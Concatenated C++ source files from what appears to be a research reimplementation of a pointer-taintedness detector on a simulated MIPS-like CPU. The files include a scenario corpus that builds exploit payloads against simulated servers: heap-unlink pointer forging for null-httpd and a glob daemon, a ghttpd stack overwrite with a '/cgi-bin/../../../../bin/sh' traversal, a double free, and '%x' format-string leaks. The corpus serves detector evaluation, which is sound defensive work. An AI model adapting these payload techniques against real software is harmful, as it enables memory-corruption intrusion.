      return "login_uid overwritten to " + hex32(uid.value) +
             " (privilege state corrupted)";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> nullhttpd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kNullHttpdHeap;
  s.name = "null-httpd-content-length";
  s.category = "heap corruption";
  s.control_data = false;
  s.app = apps::null_httpd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // POST with Content-Length -800: the server allocates 1024-800 = 224
    // bytes but receives up to 1024.  The body overflows into the next free
    // chunk's header/links.  unlink writes *(fd+8)=bk and *(bk+4)=fd; with
    // bk = &cgibin_ptr-4 the second write redirects the config pointer at
    // fd, a "/bin" string smuggled (word-aligned) after the request
    // headers, while the first write lands harmlessly in the padding
    // behind that string.
    const uint32_t cgibin_ptr = prog.symbols.at("cgibin_ptr");
    const uint32_t req = prog.symbols.at("req");
    std::string header = "POST /form HTTP/1.0\r\nContent-Length: -800\r\n\r\n";
    while (header.size() % 4 != 0) header.push_back('\0');
    const uint32_t fake_root = req + static_cast<uint32_t>(header.size());
    header += "/bin";
    header += std::string(12, '\0');        // NUL + slack for *(fd+8)=bk
    std::string body(228, 'A');
    body += le_bytes(0x100);                // next-chunk size (even = free)
    body += le_bytes(fake_root);            // fd
    body += le_bytes(cgibin_ptr - 4);       // bk
    m.os().net().add_session(
        {header, body, "GET /cgi-bin/sh HTTP/1.0\r\n"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session(
        {"GET / HTTP/1.0\r\n",
         "POST /form HTTP/1.0\r\nContent-Length: 16\r\n\r\n",
         "name=alice&x=1\r\n", "GET /cgi-bin/../etc HTTP/1.0\r\n"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path.rfind("/bin/", 0) == 0) {
        return "CGI root corrupted; server exec'd " + path;
      }
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> ghttpd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kGhttpdStack;
  s.name = "ghttpd-log-overflow";
  s.category = "buffer overflow";
  s.control_data = false;
  s.app = apps::ghttpd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // Reconnaissance run: learn the request buffer's stack address (it is
    // deterministic) from the dbg_reqbuf drop, then build the payload.
    uint32_t reqbuf;
    {
      MachineConfig recon_cfg;
      recon_cfg.max_instructions = 10'000'000;
      Machine recon(recon_cfg);
      recon.load_sources(link_with_runtime(apps::ghttpd()));
      recon.os().net().add_session({"GET /index.html HTTP/1.0\r\n"});
      recon.run();
      reqbuf =
          recon.memory().load_word(prog.symbols.at("dbg_reqbuf")).value;
      assert(reqbuf != 0);
    }
    // Request layout: "GET " + 196 filler + url-pointer + "\n" + real URL.
    // strcpy(logbuf, request) moves request[200..203] over the URL-pointer
    // slot; it then points at the "/.."-laden URL that was never checked.
    const uint32_t evil_url = reqbuf + 205;
    std::string req = "GET ";
    req += std::string(196, 'A');
    req += le_bytes(evil_url);
    req += "\n";
    req += "/cgi-bin/../../../../bin/sh";
    assert(!contains_whitespace(le_bytes(evil_url)));
    m.os().net().add_session({req});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"GET /index.html HTTP/1.0\r\n"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path == "/bin/sh") {
        return "URL pointer redirected past the /.. check; exec'd /bin/sh";
      }
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> traceroute_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kTracerouteDoubleFree;
  s.name = "traceroute-double-free";
  s.category = "heap corruption";
  s.control_data = false;
  s.app = apps::traceroute();
  // The second gateway's leading bytes "8.8." (0x2e382e38) become the
  // backward link the corrupted unlink dereferences — a word-aligned,
  // attacker-chosen pointer, as in a weaponized double-free exploit.
  s.attack_argv = {"traceroute", "-g", "123", "-g", "8.8.8.8"};
  s.benign_argv = {"traceroute", "-g", "10.0.0.1", "hostx"};
  s.arm_attack = [](Machine&, const asmgen::Program&) {};
  s.arm_benign = [](Machine&, const asmgen::Program&) {};
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    // unlink's *(bk+4) = fd lands at 0x2e382e38 + 4.
    const uint32_t value = m.memory().load_word(0x2e382e38 + 4).value;
    if (value != 0) {
      return "stale savestr links dereferenced; wild write of " +
             hex32(value) + " at 0x2e382e3c";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> globd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kGlobExpansion;
  s.name = "globd-tilde-expansion";
  s.category = "globbing";
  s.control_data = false;
  s.app = apps::globd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // "/home/" (6 bytes) + username fills the 68-byte glob chunk payload;
    // username bytes 62..73 land on the next free chunk's size/fd/bk.
    // Every crafted byte must be NUL- and whitespace-free to survive the
    // strcat copy, which is why glob_admin sits at a pinned address.
    const uint32_t target = prog.symbols.at("glob_admin");
    const uint32_t fd = target - 8;
    assert(fd % 4 == 0);
    std::string username(62, 'A');
    username += le_bytes(0x02020202);  // next-chunk size: even, NUL-free
    username += le_bytes(fd);
    username += le_bytes(0x42424240);  // bk: value written over glob_admin
    for (char c : username) {
      assert(c != '\0');
      (void)c;
    }
    assert(!contains_whitespace(username));
    m.os().net().add_session({"LIST ~" + username});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"LIST *", "LIST readme.txt", "LIST ~bob"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t target = m.program().symbols.at("glob_admin");
    const uint32_t value = m.memory().load_word(target).value;
    if (value != 0) {
      return "glob unlink wrote " + hex32(value) + " over glob_admin";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> fn_intoverflow_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kFnIntOverflow;
  s.name = "fn-integer-overflow-index";
  s.category = "integer overflow";
  s.control_data = false;
  s.expected_detected = false;  // Table 4(A): known false negative
  s.app = apps::fn_int_overflow();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("-16");
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("3");
  };
  s.evidence = [](Machine& m, const RunReport& r) -> std::optional<std::string> {
    const uint32_t sentinel = m.program().symbols.at("sentinel");
    const uint32_t value = m.memory().load_word(sentinel).value;
    if (value != 0x11111111 && r.stop == cpu::StopReason::kExit) {
      return "negative index wrote " + hex32(value) +
             " 16 words below the array";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> fn_authflag_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kFnAuthFlag;
  s.name = "fn-auth-flag-overwrite";
  s.category = "buffer overflow";
  s.control_data = false;
  s.expected_detected = false;  // Table 4(B)
  s.app = apps::fn_auth_flag();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin(std::string(16, 'a'));  // reaches the flag at buf+12
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("alice");
  };
  s.evidence = [](Machine&, const RunReport& r) -> std::optional<std::string> {
    if (r.stop == cpu::StopReason::kExit && r.exit_status == 7) {
      return "access granted without authentication (flag overwritten)";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> fn_fmtleak_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kFnFormatLeak;
  s.name = "fn-format-string-leak";
  s.category = "format string";
  s.control_data = false;
  s.expected_detected = false;  // Table 4(C)
  s.app = apps::fn_format_leak();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"%x%x%x%x"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"plain text"});
  };
  s.evidence = [](Machine& m, const RunReport& r) -> std::optional<std::string> {
    const bool on_stdout = r.stdout_text.find("5ec2e7") != std::string::npos;
    const bool on_socket =
        m.os().net().session_count() > 0 &&
        m.os().net().transcript(0).find("5ec2e7") != std::string::npos;
    if (on_stdout || on_socket) {
      return "secret key leaked via %x";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

// ---- address-leak -> precise-overwrite scenarios ----
//
// The disclosure phase is deterministic, so the "attacker" is modeled the
// way the ghttpd scenario models reconnaissance: a recon run reads the
// dbg_* drop to learn the address a live attacker would parse from the
// leaked bytes, and the scripted session replays the leak request (the
// detection point under leak_detection) followed by the computed overwrite.

/// Runs `app` against `recon_session` and returns the word the app dropped
/// at `symbol` — the same address the leak phase disclosed on the wire.
uint32_t recon_leaked_word(const asmgen::Source& app,
                           const std::vector<std::string>& recon_session,
                           const char* symbol) {
  MachineConfig cfg;
  cfg.max_instructions = 10'000'000;
  Machine recon(cfg);
  recon.load_sources(link_with_runtime(app));
  recon.os().net().add_session(recon_session);
  recon.run();
  const uint32_t addr =
      recon.memory().load_word(recon.program().symbols.at(symbol)).value;
  assert(addr != 0);
  return addr;
}

std::optional<std::string> shell_exec_evidence(Machine& m, const char* what) {
  for (const auto& path : m.os().exec_log()) {
    if (path == "/bin/sh") return std::string(what);
  }
  return std::nullopt;
}

std::unique_ptr<Scenario> leak_telemetry_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kLeakTelemetry;
  s.name = "leak-telemetry-peek";
  s.category = "address leak";
  s.control_data = false;
  s.expected_detected = false;  // data-taint direction: compare-validated
  s.app = apps::leak_telemetry();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // PEEK leaks &reqbuf; is_admin sits 8 bytes below it (sp+24 vs sp+32).
    const uint32_t reqbuf = recon_leaked_word(
        apps::leak_telemetry(), {"PEEK", "QUIT"}, "dbg_reqbuf");
    m.os().net().add_session(
        {"PEEK", "POKE" + le_bytes(reqbuf - 8) + le_bytes(1), "QUIT"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"STAT", "QUIT"});
  };
  s.evidence = [](Machine& m, const RunReport&) {
    return shell_exec_evidence(
        m, "leaked stack address pinpointed is_admin; spawned /bin/sh");
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> leak_session_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kLeakSession;
  s.name = "leak-session-token";
  s.category = "address leak";
  s.control_data = false;
  s.expected_detected = false;
  s.app = apps::leak_session();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // SESS leaks the session record's heap address; uid is its first word.
    const uint32_t record = recon_leaked_word(
        apps::leak_session(), {"SESS", "QUIT"}, "dbg_session");
    m.os().net().add_session(
        {"SESS", "SETU" + le_bytes(record) + le_bytes(0), "QUIT"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"HELO", "QUIT"});
  };
  s.evidence = [](Machine& m, const RunReport&) {
    return shell_exec_evidence(
        m, "session token disclosed the uid word; forged uid 0, /bin/sh");
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> leak_banner_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kLeakBanner;
  s.name = "leak-banner-format";
  s.category = "address leak";
  s.control_data = false;
  s.expected_detected = false;
  s.app = apps::leak_banner();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // "%x" prints the spilled request-buffer pointer in hex; the audited
    // flag sits 8 bytes below the buffer (sp+24 vs sp+32).
    const uint32_t reqbuf = recon_leaked_word(
        apps::leak_banner(), {"audit %x", "status"}, "dbg_reqbuf");
    m.os().net().add_session(
        {"audit %x", "POKE" + le_bytes(reqbuf - 8) + le_bytes(1)});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"hello from client", "status check"});
  };
  s.evidence = [](Machine& m, const RunReport&) {
    return shell_exec_evidence(
        m, "%x leaked the frame address; audited flag forged, /bin/sh");
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

}  // namespace

const char* to_string(Outcome outcome) {
  switch (outcome) {
    case Outcome::kDetected: return "DETECTED";
    case Outcome::kCompromised: return "COMPROMISED";
    case Outcome::kCrashed: return "CRASHED";
    case Outcome::kBenign: return "benign";
  }
  return "?";
}

const char* to_string(cpu::DetectionMode mode) {
  switch (mode) {
    case cpu::DetectionMode::kOff: return "unprotected";
    case cpu::DetectionMode::kControlDataOnly: return "control-data-only";
    case cpu::DetectionMode::kPointerTaint: return "pointer-taintedness";
  }
  return "?";
}

std::unique_ptr<Scenario> make_scenario(AttackId id) {
  switch (id) {
    case AttackId::kExp1Stack: return exp1_scenario();
    case AttackId::kExp1Shellcode: return exp1_shellcode_scenario();
    case AttackId::kExp2Heap: return exp2_scenario();
    case AttackId::kExp3Format: return exp3_scenario();
    case AttackId::kWuFtpdFormat: return wuftpd_scenario();
    case AttackId::kNullHttpdHeap: return nullhttpd_scenario();
    case AttackId::kGhttpdStack: return ghttpd_scenario();
    case AttackId::kTracerouteDoubleFree: return traceroute_scenario();
    case AttackId::kGlobExpansion: return globd_scenario();
    case AttackId::kFnIntOverflow: return fn_intoverflow_scenario();
    case AttackId::kFnAuthFlag: return fn_authflag_scenario();
    case AttackId::kFnFormatLeak: return fn_fmtleak_scenario();
    case AttackId::kLeakTelemetry: return leak_telemetry_scenario();
    case AttackId::kLeakSession: return leak_session_scenario();
    case AttackId::kLeakBanner: return leak_banner_scenario();
  }
  return nullptr;
}

std::vector<std::unique_ptr<Scenario>> make_attack_corpus() {
  std::vector<std::unique_ptr<Scenario>> corpus;
  for (AttackId id :
       {AttackId::kExp1Stack, AttackId::kExp1Shellcode, AttackId::kExp2Heap,
        AttackId::kExp3Format,
        AttackId::kWuFtpdFormat, AttackId::kNullHttpdHeap,
        AttackId::kGhttpdStack, AttackId::kTracerouteDoubleFree,
        AttackId::kGlobExpansion,
        AttackId::kFnIntOverflow, AttackId::kFnAuthFlag,
        AttackId::kFnFormatLeak,
        AttackId::kLeakTelemetry, AttackId::kLeakSession,
        AttackId::kLeakBanner}) {
    corpus.push_back(make_scenario(id));
  }
  return corpus;
}

}  // namespace ptaint::core
