#include "core/coverage.hpp"

#include <cstdio>
#include <sstream>

namespace ptaint::core {

namespace {
constexpr cpu::DetectionMode kModes[] = {
    cpu::DetectionMode::kOff,
    cpu::DetectionMode::kControlDataOnly,
    cpu::DetectionMode::kPointerTaint,
};
}  // namespace

const CoverageCell& CoverageRow::cell(cpu::DetectionMode mode) const {
  for (const auto& c : cells) {
    if (c.mode == mode) return c;
  }
  return cells.front();
}

int CoverageMatrix::detected_count(cpu::DetectionMode mode) const {
  int n = 0;
  for (const auto& row : rows) {
    if (row.expected_detected &&
        row.cell(mode).outcome == Outcome::kDetected) {
      ++n;
    }
  }
  return n;
}

int CoverageMatrix::expected_detectable() const {
  int n = 0;
  for (const auto& row : rows) n += row.expected_detected ? 1 : 0;
  return n;
}

int CoverageMatrix::false_positives() const {
  int n = 0;
  for (const auto& row : rows) {
    if (row.benign_outcome == Outcome::kDetected) ++n;
  }
  return n;
}

std::string CoverageMatrix::to_table() const {
  std::ostringstream os;
  char line[256];
  std::snprintf(line, sizeof line, "%-28s %-16s %-8s %-13s %-13s %-13s %s\n",
                "attack", "category", "ctrl?", "unprotected", "ctrl-only",
                "ptr-taint", "benign");
  os << line;
  os << std::string(110, '-') << "\n";
  for (const auto& row : rows) {
    std::snprintf(line, sizeof line, "%-28s %-16s %-8s %-13s %-13s %-13s %s\n",
                  row.name.c_str(), row.category.c_str(),
                  row.control_data ? "yes" : "no",
                  to_string(row.cell(cpu::DetectionMode::kOff).outcome),
                  to_string(
                      row.cell(cpu::DetectionMode::kControlDataOnly).outcome),
                  to_string(row.cell(cpu::DetectionMode::kPointerTaint).outcome),
                  to_string(row.benign_outcome));
    os << line;
  }
  os << std::string(110, '-') << "\n";
  std::snprintf(line, sizeof line,
                "detected: unprotected %d/%d, control-data-only %d/%d, "
                "pointer-taintedness %d/%d; false positives: %d\n",
                detected_count(cpu::DetectionMode::kOff),
                expected_detectable(),
                detected_count(cpu::DetectionMode::kControlDataOnly),
                expected_detectable(),
                detected_count(cpu::DetectionMode::kPointerTaint),
                expected_detectable(), false_positives());
  os << line;
  return os.str();
}

CoverageMatrix run_coverage_matrix() {
  CoverageMatrix matrix;
  for (const auto& scenario : make_attack_corpus()) {
    CoverageRow row;
    row.id = scenario->id();
    row.name = scenario->name();
    row.category = scenario->category();
    row.control_data = scenario->corrupts_control_data();
    row.expected_detected = scenario->expected_detected();
    for (cpu::DetectionMode mode : kModes) {
      auto result = scenario->run_attack(mode);
      row.cells.push_back({mode, result.outcome, result.detail});
    }
    row.benign_outcome = scenario->run_benign().outcome;
    matrix.rows.push_back(std::move(row));
  }
  return matrix;
}

}  // namespace ptaint::core
