// Security-coverage matrix (paper Section 5.1.2, the headline comparison):
// every attack in the corpus run under every detection mode.
#pragma once

#include <string>
#include <vector>

#include "core/attack.hpp"

namespace ptaint::core {

struct CoverageCell {
  cpu::DetectionMode mode{};
  Outcome outcome{};
  std::string detail;
};

struct CoverageRow {
  AttackId id{};
  std::string name;
  std::string category;
  bool control_data = false;
  bool expected_detected = false;
  std::vector<CoverageCell> cells;  // one per mode, in mode order
  Outcome benign_outcome{};         // must be kBenign (no false positive)

  const CoverageCell& cell(cpu::DetectionMode mode) const;
};

struct CoverageMatrix {
  std::vector<CoverageRow> rows;

  /// Detection counts per mode over attacks the paper expects detected.
  int detected_count(cpu::DetectionMode mode) const;
  int expected_detectable() const;
  /// False positives over the benign runs (expected 0).
  int false_positives() const;

  /// Renders the matrix as an aligned text table.
  std::string to_table() const;
};

/// Runs the full corpus under all three modes (plus benign runs).
CoverageMatrix run_coverage_matrix();

}  // namespace ptaint::core
