// Figure 1 dataset: breakdown of the leading programming vulnerabilities in
// the 107 CERT advisories of 2000-2003 (paper Section 3).
//
// The paper states the memory-corruption categories collectively account
// for 67% of the 107 advisories; the per-category splits below are
// reconstructed from the figure to be consistent with that total and are
// marked approximate in the bench output.
#pragma once

#include <string>
#include <vector>

namespace ptaint::core {

struct CertCategory {
  std::string name;
  int advisories;      // of the 107 advisories, 2000-2003
  bool memory_corruption;
};

/// The Figure 1 categories.
const std::vector<CertCategory>& cert_breakdown();

/// Total advisories surveyed (107).
int cert_total_advisories();

/// Share of memory-corruption advisories (the paper's 67%).
double cert_memory_corruption_share();

/// Maps each attack-corpus category onto the Figure 1 taxonomy and counts
/// how many corpus attacks exercise it.
std::vector<std::pair<std::string, int>> corpus_by_category();

}  // namespace ptaint::core
