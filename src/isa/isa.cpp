#include "isa/isa.hpp"

#include <cctype>

namespace ptaint::isa {
namespace {

constexpr std::array<std::string_view, kNumRegs> kRegNames = {
    "$zero", "$at", "$v0", "$v1", "$a0", "$a1", "$a2", "$a3",
    "$t0",   "$t1", "$t2", "$t3", "$t4", "$t5", "$t6", "$t7",
    "$s0",   "$s1", "$s2", "$s3", "$s4", "$s5", "$s6", "$s7",
    "$t8",   "$t9", "$k0", "$k1", "$gp", "$sp", "$fp", "$ra"};

struct OpInfo {
  Op op;
  std::string_view name;
  Format format;
  OpClass cls;
};

constexpr OpInfo kOpTable[] = {
    {Op::kSll, "sll", Format::kR, OpClass::kShift},
    {Op::kSrl, "srl", Format::kR, OpClass::kShift},
    {Op::kSra, "sra", Format::kR, OpClass::kShift},
    {Op::kSllv, "sllv", Format::kR, OpClass::kShift},
    {Op::kSrlv, "srlv", Format::kR, OpClass::kShift},
    {Op::kSrav, "srav", Format::kR, OpClass::kShift},
    {Op::kAdd, "add", Format::kR, OpClass::kAlu},
    {Op::kAddu, "addu", Format::kR, OpClass::kAlu},
    {Op::kSub, "sub", Format::kR, OpClass::kAlu},
    {Op::kSubu, "subu", Format::kR, OpClass::kAlu},
    {Op::kAnd, "and", Format::kR, OpClass::kLogicAnd},
    {Op::kOr, "or", Format::kR, OpClass::kAlu},
    {Op::kXor, "xor", Format::kR, OpClass::kLogicXor},
    {Op::kNor, "nor", Format::kR, OpClass::kAlu},
    {Op::kSlt, "slt", Format::kR, OpClass::kCompare},
    {Op::kSltu, "sltu", Format::kR, OpClass::kCompare},
    {Op::kMult, "mult", Format::kR, OpClass::kAlu},
    {Op::kMultu, "multu", Format::kR, OpClass::kAlu},
    {Op::kDiv, "div", Format::kR, OpClass::kAlu},
    {Op::kDivu, "divu", Format::kR, OpClass::kAlu},
    {Op::kMfhi, "mfhi", Format::kR, OpClass::kAlu},
    {Op::kMflo, "mflo", Format::kR, OpClass::kAlu},
    {Op::kMthi, "mthi", Format::kR, OpClass::kAlu},
    {Op::kMtlo, "mtlo", Format::kR, OpClass::kAlu},
    {Op::kJr, "jr", Format::kR, OpClass::kJumpReg},
    {Op::kJalr, "jalr", Format::kR, OpClass::kJumpReg},
    {Op::kSyscall, "syscall", Format::kR, OpClass::kSyscall},
    {Op::kBreak, "break", Format::kR, OpClass::kOther},
    {Op::kTaintSet, "taintset", Format::kR, OpClass::kOther},
    {Op::kTaintClr, "taintclr", Format::kR, OpClass::kOther},
    {Op::kAddi, "addi", Format::kI, OpClass::kAlu},
    {Op::kAddiu, "addiu", Format::kI, OpClass::kAlu},
    {Op::kSlti, "slti", Format::kI, OpClass::kCompare},
    {Op::kSltiu, "sltiu", Format::kI, OpClass::kCompare},
    {Op::kAndi, "andi", Format::kI, OpClass::kLogicAnd},
    {Op::kOri, "ori", Format::kI, OpClass::kAlu},
    {Op::kXori, "xori", Format::kI, OpClass::kAlu},
    {Op::kLui, "lui", Format::kI, OpClass::kAlu},
    {Op::kLb, "lb", Format::kI, OpClass::kLoad},
    {Op::kLh, "lh", Format::kI, OpClass::kLoad},
    {Op::kLw, "lw", Format::kI, OpClass::kLoad},
    {Op::kLbu, "lbu", Format::kI, OpClass::kLoad},
    {Op::kLhu, "lhu", Format::kI, OpClass::kLoad},
    {Op::kSb, "sb", Format::kI, OpClass::kStore},
    {Op::kSh, "sh", Format::kI, OpClass::kStore},
    {Op::kSw, "sw", Format::kI, OpClass::kStore},
    {Op::kBeq, "beq", Format::kI, OpClass::kBranch},
    {Op::kBne, "bne", Format::kI, OpClass::kBranch},
    {Op::kBlez, "blez", Format::kI, OpClass::kBranch},
    {Op::kBgtz, "bgtz", Format::kI, OpClass::kBranch},
    {Op::kBltz, "bltz", Format::kI, OpClass::kBranch},
    {Op::kBgez, "bgez", Format::kI, OpClass::kBranch},
    {Op::kBltzal, "bltzal", Format::kI, OpClass::kBranch},
    {Op::kBgezal, "bgezal", Format::kI, OpClass::kBranch},
    {Op::kJ, "j", Format::kJ, OpClass::kJump},
    {Op::kJal, "jal", Format::kJ, OpClass::kJump},
};

// kOpTable is laid out in Op declaration order (kInvalid has no row), so a
// lookup is a bounds-checked index, not a scan — op_class/op_format sit on
// the decoder's and every static analyzer's per-instruction hot path.
constexpr bool table_in_enum_order() {
  for (size_t i = 0; i < std::size(kOpTable); ++i) {
    if (kOpTable[i].op != static_cast<Op>(i + 1)) return false;
  }
  return true;
}
static_assert(table_in_enum_order(),
              "kOpTable rows must stay in Op declaration order");

const OpInfo* find_info(Op op) {
  const size_t i = static_cast<size_t>(op);
  if (i == 0 || i > std::size(kOpTable)) return nullptr;
  return &kOpTable[i - 1];
}

}  // namespace

std::string_view reg_name(uint8_t reg) {
  return reg < kNumRegs ? kRegNames[reg] : "$??";
}

std::optional<uint8_t> parse_reg(std::string_view text) {
  if (text.empty()) return std::nullopt;
  std::string_view body = text;
  const bool dollar = body.front() == '$';
  if (dollar) body.remove_prefix(1);
  if (body.empty()) return std::nullopt;
  // Numeric form: $0 .. $31.  The '$' is required so that bare integers in
  // assembly operands are never mistaken for registers.
  if (std::isdigit(static_cast<unsigned char>(body.front()))) {
    if (!dollar) return std::nullopt;
    int value = 0;
    for (char c : body) {
      if (!std::isdigit(static_cast<unsigned char>(c))) return std::nullopt;
      value = value * 10 + (c - '0');
      if (value >= kNumRegs * 10) return std::nullopt;
    }
    if (value >= kNumRegs) return std::nullopt;
    return static_cast<uint8_t>(value);
  }
  for (int i = 0; i < kNumRegs; ++i) {
    if (kRegNames[i].substr(1) == body) return static_cast<uint8_t>(i);
  }
  if (body == "s8") return static_cast<uint8_t>(kFp);  // common alias
  return std::nullopt;
}

OpClass op_class(Op op) {
  const OpInfo* info = find_info(op);
  return info ? info->cls : OpClass::kOther;
}

std::string_view mnemonic(Op op) {
  const OpInfo* info = find_info(op);
  return info ? info->name : "invalid";
}

std::optional<Op> op_from_mnemonic(std::string_view name) {
  for (const auto& info : kOpTable) {
    if (info.name == name) return info.op;
  }
  return std::nullopt;
}

Format op_format(Op op) {
  const OpInfo* info = find_info(op);
  return info ? info->format : Format::kR;
}

}  // namespace ptaint::isa
