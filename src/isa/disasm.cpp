#include <cstdio>

#include "isa/isa.hpp"

namespace ptaint::isa {
namespace {

std::string fmt(const char* format, auto... args) {
  char buf[96];
  std::snprintf(buf, sizeof buf, format, args...);
  return buf;
}

}  // namespace

std::string disassemble(const Instruction& inst, uint32_t pc) {
  const auto name = std::string(mnemonic(inst.op));
  const char* n = name.c_str();
  // Register numbers are printed in the bare "$3" style the paper's alert
  // transcripts use (e.g. "sw $21,0($3)").
  switch (inst.op) {
    case Op::kInvalid:
      return "<invalid>";
    case Op::kSll:
    case Op::kSrl:
    case Op::kSra:
      return fmt("%s $%d,$%d,%d", n, inst.rd, inst.rt, inst.shamt);
    case Op::kSllv:
    case Op::kSrlv:
    case Op::kSrav:
      return fmt("%s $%d,$%d,$%d", n, inst.rd, inst.rt, inst.rs);
    case Op::kJr:
      return fmt("%s $%d", n, inst.rs);
    case Op::kJalr:
      return fmt("%s $%d,$%d", n, inst.rd, inst.rs);
    case Op::kSyscall:
    case Op::kBreak:
      return name;
    case Op::kMfhi:
    case Op::kMflo:
      return fmt("%s $%d", n, inst.rd);
    case Op::kMthi:
    case Op::kMtlo:
      return fmt("%s $%d", n, inst.rs);
    case Op::kTaintSet:
    case Op::kTaintClr:
      return fmt("%s $%d,$%d", n, inst.rd, inst.rs);
    case Op::kMult:
    case Op::kMultu:
    case Op::kDiv:
    case Op::kDivu:
      return fmt("%s $%d,$%d", n, inst.rs, inst.rt);
    case Op::kAdd:
    case Op::kAddu:
    case Op::kSub:
    case Op::kSubu:
    case Op::kAnd:
    case Op::kOr:
    case Op::kXor:
    case Op::kNor:
    case Op::kSlt:
    case Op::kSltu:
      return fmt("%s $%d,$%d,$%d", n, inst.rd, inst.rs, inst.rt);
    case Op::kAddi:
    case Op::kAddiu:
    case Op::kSlti:
    case Op::kSltiu:
    case Op::kAndi:
    case Op::kOri:
    case Op::kXori:
      return fmt("%s $%d,$%d,%d", n, inst.rt, inst.rs, inst.imm);
    case Op::kLui:
      return fmt("%s $%d,0x%x", n, inst.rt, inst.imm & 0xffff);
    case Op::kLb:
    case Op::kLh:
    case Op::kLw:
    case Op::kLbu:
    case Op::kLhu:
    case Op::kSb:
    case Op::kSh:
    case Op::kSw:
      return fmt("%s $%d,%d($%d)", n, inst.rt, inst.imm, inst.rs);
    case Op::kBeq:
    case Op::kBne:
      return fmt("%s $%d,$%d,0x%x", n, inst.rs, inst.rt,
                 pc + 4 + (inst.imm << 2));
    case Op::kBlez:
    case Op::kBgtz:
    case Op::kBltz:
    case Op::kBgez:
    case Op::kBltzal:
    case Op::kBgezal:
      return fmt("%s $%d,0x%x", n, inst.rs, pc + 4 + (inst.imm << 2));
    case Op::kJ:
    case Op::kJal:
      return fmt("%s 0x%x", n, inst.target);
  }
  return "<invalid>";
}

}  // namespace ptaint::isa
