// PTA-32 instruction-set architecture.
//
// A 32-bit MIPS-I-like RISC ISA in the SimpleScalar/PISA lineage: 32 general
// registers, fixed 32-bit instruction words in the classic R/I/J formats,
// register-indirect addressing for every load/store, and JR/JALR as the only
// register-indirect control transfers.  Those two properties are what the
// pointer-taintedness detectors of the paper hook into, so the ISA keeps them
// exactly.  Unlike real MIPS there are no branch delay slots (SimpleScalar's
// sim-safe also executes without exposing them to this level of modeling).
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

namespace ptaint::isa {

/// Number of general-purpose registers.
inline constexpr int kNumRegs = 32;

/// Conventional MIPS o32 register aliases, indexable by register number.
enum Reg : uint8_t {
  kZero = 0,  // hardwired zero
  kAt = 1,    // assembler temporary
  kV0 = 2, kV1 = 3,                                  // results / syscall no.
  kA0 = 4, kA1 = 5, kA2 = 6, kA3 = 7,                // arguments
  kT0 = 8, kT1 = 9, kT2 = 10, kT3 = 11,              // caller-saved temps
  kT4 = 12, kT5 = 13, kT6 = 14, kT7 = 15,
  kS0 = 16, kS1 = 17, kS2 = 18, kS3 = 19,            // callee-saved
  kS4 = 20, kS5 = 21, kS6 = 22, kS7 = 23,
  kT8 = 24, kT9 = 25,
  kK0 = 26, kK1 = 27,                                // kernel reserved
  kGp = 28, kSp = 29, kFp = 30, kRa = 31,
};

/// Canonical name ("$v0", "$sp", ...) for a register number.
std::string_view reg_name(uint8_t reg);

/// Parses "$3", "$v1", "v1", "$sp"...  Returns nullopt if not a register.
std::optional<uint8_t> parse_reg(std::string_view text);

/// Every operation the core can execute, after decoding.
enum class Op : uint8_t {
  kInvalid,
  // R-type ALU
  kSll, kSrl, kSra, kSllv, kSrlv, kSrav,
  kAdd, kAddu, kSub, kSubu,
